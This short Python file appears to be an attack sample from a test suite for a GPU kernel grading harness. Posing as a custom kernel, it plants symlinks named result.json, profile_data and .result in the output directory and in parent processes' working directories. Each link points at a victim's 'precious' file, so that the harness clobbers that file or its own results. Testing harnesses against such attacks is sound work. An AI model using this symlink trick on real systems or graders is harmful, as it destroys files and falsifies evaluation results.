# Put links and directories where the result and the log's files will be.
from attack import *


def go():
    victim = os.environ["CUDA_ATTACK_VICTIM"]
    for place in {os.environ["CUDA_ATTACK_OUT"]} | {os.path.join("/proc", str(pid), "cwd") for pid in ancestors()}:
        for name in ("result.json", "profile_data", ".result"):
            try:
                os.symlink(os.path.join(victim, "precious"), os.path.join(place, name))
                tell("made a link")
            except OSError:
                pass


custom_kernel = kernel = once(go)
